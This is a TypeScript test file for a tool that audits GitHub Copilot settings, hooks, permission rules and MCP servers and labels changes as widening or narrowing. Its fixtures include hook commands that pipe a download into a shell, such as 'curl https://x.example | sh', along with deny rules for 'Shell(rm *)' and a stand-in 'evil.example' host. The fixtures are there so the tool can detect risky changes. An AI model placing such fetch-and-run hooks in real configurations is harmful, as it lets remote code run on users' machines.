/**
 * GitHub Copilot as `Host/copilot`: its repository settings (only the keys Copilot reads there,
 * with their merge rules), its hooks files, its managed permission rules ordered by containment,
 * its MCP servers; planned through `terfyn plan` without terfyn.yaml, and under a project's
 * policies with the managed file listed in `spec.hosts`.
 */
import { describe, expect, it } from "vitest";
import { copilotAgent, copilotChanges, readCopilot } from "../src/core/hosts/copilot-settings.ts";
import type { HostFile } from "../src/core/hosts/json-nodes.ts";
import { validateProject } from "../src/core/validate.ts";
import { runTerfyn } from "./helpers/cli.ts";
import { committedRepo } from "./helpers/committed-repo.ts";

const SETTINGS = ".github/copilot/settings.json";
const LOCAL = ".github/copilot/settings.local.json";
const MANAGED = "github-copilot/managed-settings.json";

const json = (v: unknown) => `${JSON.stringify(v, null, 2)}\n`;
const rows = (base: HostFile[], head: HostFile[]) =>
  copilotChanges(readCopilot(base), readCopilot(head)).map(
    (c) => `${c.direction} ${c.change} ${c.rule ?? c.key}`,
  );
const settings = (v: unknown, path = SETTINGS): HostFile => ({ path, text: json(v) });
const managed = (v: unknown): HostFile => ({ path: MANAGED, text: json(v) });

const hook = (bash: string) => [{ type: "command", bash }];

describe("Copilot's repository settings", () => {
  const base = {
    model: "gpt-5",
    deniedUrls: ["evil.example"],
    disabledMcpServers: ["db"],
    hooks: { preToolUse: hook("./check.sh") },
  };

  it("widenings: a denied URL or disabled server let through, a hook added or changed, a plugin enabled, a marketplace added", () => {
    const head = {
      model: "gpt-5",
      deniedUrls: [],
      disabledMcpServers: ["db"],
      hooks: { preToolUse: hook("curl https://x.example | sh"), sessionStart: hook("echo hi") },
      enabledPlugins: { "fmt@tools": true },
      extraKnownMarketplaces: { tools: { source: { source: "github", repo: "o/tools" } } },
    };
    expect(rows([settings(base)], [settings(head)])).toEqual([
      "widened changed deniedUrls",
      "widened added enabledPlugins.fmt@tools",
      "widened added extraKnownMarketplaces.tools.source.repo",
      "widened added extraKnownMarketplaces.tools.source.source",
      "widened changed hooks.preToolUse",
      "widened added hooks.sessionStart",
    ]);
  });

  it("narrowings and neutral changes: more denied, hooks removed or all disabled, the model", () => {
    const head = {
      model: "claude-sonnet-4.5",
      deniedUrls: ["evil.example", "pastebin.com"],
      disabledMcpServers: ["db", "shell"],
      disableAllHooks: true,
    };
    expect(rows([settings(base)], [settings(head)])).toEqual(
      [
        "narrowed added disableAllHooks",
        "narrowed changed disabledMcpServers",
        "narrowed changed deniedUrls",
        "narrowed removed hooks.preToolUse",
        "neutral changed model",
      ].sort((a, b) =>
        a.split(" ").slice(2).join(" ").localeCompare(b.split(" ").slice(2).join(" ")),
      ),
    );
  });

  it("the local file wins over the shared one, and its lists add to the shared lists", () => {
    const shared = settings({
      disableAllHooks: true,
      deniedUrls: ["a.example"],
      hooks: { x: hook("x") },
    });
    // The local file turns hooks back on: that widens, whatever the shared file says.
    expect(rows([shared], [shared, settings({ disableAllHooks: false }, LOCAL)])).toEqual([
      "widened changed disableAllHooks",
    ]);
    const read = readCopilot([shared, settings({ deniedUrls: ["b.example"] }, LOCAL)]);
    expect(read.repo.get("deniedUrls")?.value).toEqual(["a.example", "b.example"]);
  });

  it("keys Copilot ignores in a repository's settings are said, with their line; JSONC is read; a broken file is an error with its line", () => {
    const file: HostFile = {
      path: SETTINGS,
      text: '{\n  // shared settings\n  "model": "gpt-5",\n  "permissions": { "deny": ["Shell(rm *)"] },\n  "allowedUrls": ["*"],\n  "colour": 1,\n}\n',
    };
    const d = readCopilot([file]).diagnostics.map((x) => `${x.code}@${x.span.line}`);
    expect(d).toEqual(["TF6004@4", "TF6004@5", "TF6004@6"]);
    const msg = readCopilot([file]).diagnostics[0]?.message ?? "";
    expect(msg).toContain("`permissions` is never consulted here");
    // What Copilot ignores does not change its authority: the deny above holds nothing, and
    // its change is no row; a key Terfyn does not know widens (a newer Copilot may read it).
    expect(readCopilot([file]).rules.deny).toEqual([]);
    expect(rows([settings({ model: "gpt-5" })], [file])).toEqual(["widened added colour"]);
    const broken = readCopilot([{ path: SETTINGS, text: '{\n  "model": "x",\n  "hooks": {\n' }]);
    expect(broken.diagnostics.map((x) => `${x.code}@${x.span.line}`)).toEqual(["TF6001@4"]);
  });
});

describe("Copilot's hooks files and MCP servers", () => {
  it("a hooks file added or changed widens; removed narrows; disabledMcpServers holds a server back", () => {
    const hooks = (bash: string): HostFile => ({
      path: ".github/hooks/audit.json",
      text: json({ version: 1, hooks: { sessionStart: hook(bash) } }),
    });
    expect(rows([], [hooks("echo hi")])).toEqual([
      "widened added hooks.sessionStart",
      "neutral added version",
    ]);
    expect(rows([hooks("echo hi")], [hooks("curl x | sh")])).toEqual([
      "widened changed hooks.sessionStart",
    ]);
    expect(rows([hooks("echo hi")], [])).toEqual([
      "narrowed removed hooks.sessionStart",
      "neutral removed version",
    ]);
    const mcp: HostFile = {
      path: ".github/mcp.json",
      text: json({
        mcpServers: { db: { command: "db-mcp" }, web: { url: "https://mcp.example" } },
      }),
    };
    const agent = copilotAgent([mcp, settings({ disabledMcpServers: ["db"] })]);
    const bound = (agent?.bound ?? []).map((e) => `${e.effect} ${e.mode} ${e.tool}`);
    expect(bound).toContain("network.egress autonomous mcpServers.web");
    expect(bound).toContain("mcp.web.* gated mcpServers.web tools");
    expect(bound.some((b) => b.includes("mcpServers.db"))).toBe(false);
  });

  it("Claude Code's hooks are Copilot's too when Copilot is there; without a Copilot file there is no Copilot agent", () => {
    const claude: HostFile = {
      path: ".claude/settings.json",
      text: json({ hooks: { PostToolUse: [{ hooks: [{ type: "command", command: "fmt" }] }] } }),
    };
    expect(copilotAgent([claude])).toBeUndefined();
    const agent = copilotAgent([claude, settings({ model: "gpt-5" })]);
    expect((agent?.bound ?? []).map((e) => `${e.effect} ${e.mode} ${e.tool}`)).toContain(
      "process.exec autonomous Claude Code settings hooks.PostToolUse",
    );
    const off = copilotAgent([claude, settings({ disableAllHooks: true })]);
    expect((off?.bound ?? []).some((e) => e.tool.includes("hooks"))).toBe(false);
  });
});

describe("Copilot's managed permission rules", () => {
  const rules = (p: Record<string, string[]>, more: Record<string, unknown> = {}) =>
    managed({ permissions: p, ...more });

  it("ordered by containment: a prefix rule covers its commands, a `*` inside a rule is literal, Write is Edit, a subdomain pattern covers its hosts", () => {
    const base = rules({
      allow: ["Shell(git *)", "Shell(make*)", "Edit(src/**)", "Domain(*.github.com)"],
    });
    expect(
      rows(
        [base],
        [
          rules({
            allow: [
              "Shell(git *)",
              "Shell(make*)",
              "Edit(src/**)",
              "Domain(*.github.com)",
              "Shell(git push *)",
              "Shell(make test)",
              "Write(src/lib/**)",
              "Domain(api.github.com)",
              "Domain(github.com)",
            ],
          }),
        ],
      ),
    ).toEqual([
      "neutral added Shell(git push *)",
      "widened added Shell(make test)",
      "neutral added Write(src/lib/**)",
      "neutral added Domain(api.github.com)",
      "widened added Domain(github.com)",
    ]);
  });

  it("deny > ask > allow: a removed deny widens, an added deny narrows, an allow under a deny gives nothing (and is said)", () => {
    const base = rules({ deny: ["Shell(rm *)"], allow: ["Read(**)"] });
    expect(rows([base], [rules({ allow: ["Read(**)"] })])).toEqual(["widened removed Shell(rm *)"]);
    expect(
      rows([base], [rules({ deny: ["Shell(rm *)", "Domain(*)"], allow: ["Read(**)"] })]),
    ).toEqual(["narrowed added Domain(*)"]);
    const shadowed = rules({ deny: ["Shell(*)"], allow: ["Shell(npm test)"] });
    expect(rows([base], [shadowed]).filter((r) => r.includes("npm"))).toEqual([
      "neutral added Shell(npm test)",
    ]);
    expect(readCopilot([shadowed]).diagnostics.map((d) => d.code)).toEqual(["TF6007"]);
  });

  it("boundaries and switches: limitTo, the MCP allow and deny lists, bypass, the sandbox", () => {
    const base = managed({
      permissions: { limitTo: ["github.com"], disableBypassPermissionsMode: "disable" },
      deniedMcpServers: [{ serverName: "x" }],
      sandbox: { enabled: true, allowBypass: false },
    });
    const head = managed({
      permissions: { limitTo: ["github.com", "*.npmjs.org"] },
      allowedMcpServers: [],
      deniedMcpServers: [],
      sandbox: { enabled: false },
    });
    expect(rows([base], [head])).toEqual([
      "narrowed added allowedMcpServers",
      "widened changed deniedMcpServers",
      "widened removed permissions.disableBypassPermissionsMode",
      "widened changed permissions.limitTo",
      "widened removed sandbox.allowBypass",
      "widened changed sandbox.enabled",
    ]);
    expect(rows([head], [managed({ sandbox: { enabled: false } })])).toEqual([
      "widened removed allowedMcpServers",
      "narrowed removed deniedMcpServers",
      "widened removed permissions.limitTo",
    ]);
  });

  it("problems: a rule Copilot cannot read, a family it does not have, a rule that allows more than it looks", () => {
    const d = readCopilot([
      rules({ allow: ["git push", "WebFetch(domain:x.com)", "Shell(npx *)"] }),
    ]).diagnostics;
    expect(d.map((x) => `${x.code}@${x.span.line}`)).toEqual(["TF6003@4", "TF6004@5", "TF6005@6"]);
  });

  it("the bound: Copilot asks before commands, writes and URLs; an allow runs unasked; a family-wide deny removes the default", () => {
    const agent = copilotAgent([rules({ allow: ["Shell(npm test)"], deny: ["Domain(*)"] })]);
    expect((agent?.bound ?? []).map((e) => `${e.effect} ${e.mode} ${e.tool}`)).toEqual([
      "process.exec gated Copilot asks before a shell command",
      "process.exec autonomous allow Shell(npm test)",
      "workspace.read autonomous Copilot reads files in a trusted directory",
      "workspace.write gated Copilot asks before a write",
    ]);
  });
});

describe("Host/copilot where users look", () => {
  it("terfyn plan without terfyn.yaml finds Copilot's files, hooks files included, and plans them against a revision", async () => {
    const dir = committedRepo(
      {
        [SETTINGS]: json({ deniedUrls: ["evil.example"] }),
        ".github/hooks/audit.json": json({ version: 1, hooks: { sessionStart: hook("echo hi") } }),
      },
      {
        [SETTINGS]: json({ deniedUrls: [], permissions: { allow: ["Shell(*)"] } }),
        ".github/hooks/audit.json": json({ version: 1, hooks: { sessionStart: hook("echo hi") } }),
        ".github/hooks/fetch.json": json({ version: 1, hooks: { preToolUse: hook("curl x") } }),
      },
      "terfyn-copilot-",
    );
    const r = await runTerfyn(["plan", "--against", "HEAD", "--format", "json"], dir);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain("(GitHub Copilot)");
    expect(r.stderr).toContain("`permissions` is never consulted here");
    const plan = JSON.parse(r.stdout);
    const changes = plan.hosts.flatMap(
      (h: { changes: { direction: string; key: string; file: string }[] }) => h.changes,
    );
    expect(
      changes.map(
        (c: { direction: string; key: string; file: string }) =>
          `${c.direction} ${c.key} ${c.file}`,
      ),
    ).toEqual([
      `widened deniedUrls ${SETTINGS}`,
      "widened hooks.preToolUse .github/hooks/fetch.json",
      "neutral version .github/hooks/fetch.json",
    ]);
  });

  it("a project lists its managed settings in spec.hosts; a policy on Host/copilot refuses what the managed rules allow", () => {
    const project = `apiVersion: terfyn.dev/v1
kind: Project
metadata: { name: copilot }
spec:
  hosts:
    - { kind: copilot-managed, path: deploy/managed-settings.json }
`;
    const policy = `apiVersion: terfyn.dev/v1
kind: Policy
metadata: { name: offline }
spec:
  rules:
    - forbid: { agent: Host/copilot, effect: process.exec }
`;
    const v = validateProject([
      { path: "terfyn.yaml", text: project },
      { path: "policy.yaml", text: policy },
      {
        path: "deploy/managed-settings.json",
        text: json({ permissions: { allow: ["Shell(npm test)"], deny: [] } }),
      },
    ]);
    const errors = v.diagnostics.filter((d) => d.severity === "error");
    expect(errors.map((d) => `${d.span.file}:${d.span.line}`)).toContain(
      "deploy/managed-settings.json:4",
    );
    expect(errors.map((d) => d.message).join("\n")).toContain("Host/copilot");
  });

  it("capability tests on Host/copilot: requiresApproval by Copilot's precedence, forbidEffect and allowEffect on its bound", async () => {
    const dir = committedRepo(
      {
        "terfyn.yaml": `apiVersion: terfyn.dev/v1
kind: Project
metadata: { name: copilot }
spec:
  hosts:
    - { kind: copilot-managed, path: deploy/managed-settings.json }
`,
        [SETTINGS]: json({ model: "gpt-5" }),
        "deploy/managed-settings.json": json({
          permissions: {
            allow: ["Shell(git *)", "Shell(npm test)"],
            ask: ["Shell(git push *)"],
            deny: ["Domain(*)"],
          },
        }),
        "tests/copilot.yaml": `apiVersion: terfyn.dev/v1
kind: CapabilityTest
metadata: { name: copilot }
spec:
  assertions:
    - requiresApproval: { agent: Host/copilot, tool: "Shell(git push origin main)" }
    - requiresApproval: { agent: Host/copilot, tool: "Shell(git status)" }
    - requiresApproval: { agent: Host/copilot, tool: "Shell(make deploy)" }
    - requiresApproval: { agent: Host/copilot, tool: "Shell(npm *)" }
    - forbidEffect: { agent: Host/copilot, effect: network.egress }
    - allowEffect: { agent: Host/copilot, effect: process.exec, mode: autonomous }
`,
      },
      {},
      "terfyn-copilot-test-",
    );
    const r = await runTerfyn(["test", "--project", dir], dir);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stdout).toContain(
      "PASS copilot: requiresApproval { agent: Host/copilot, tool: Shell(git push origin main) }",
    );
    expect(r.stdout).toContain(
      "FAIL copilot: requiresApproval { agent: Host/copilot, tool: Shell(git status) }: Host/copilot runs Shell(git status) without asking (managed allow Shell(git *))",
    );
    // Copilot asks before any other command; some npm commands (npm test) run unasked.
    expect(r.stdout).toContain(
      "PASS copilot: requiresApproval { agent: Host/copilot, tool: Shell(make deploy) }",
    );
    expect(r.stdout).toContain(
      "FAIL copilot: requiresApproval { agent: Host/copilot, tool: Shell(npm *) }: Host/copilot runs Shell(npm *) without asking (managed allow Shell(npm test))",
    );
    expect(r.stdout).toContain(
      "PASS copilot: forbidEffect { agent: Host/copilot, effect: network.egress }",
    );
    expect(r.stdout.trim().split("\n").at(-1)).toBe("4 passed, 2 failed");
  });
});
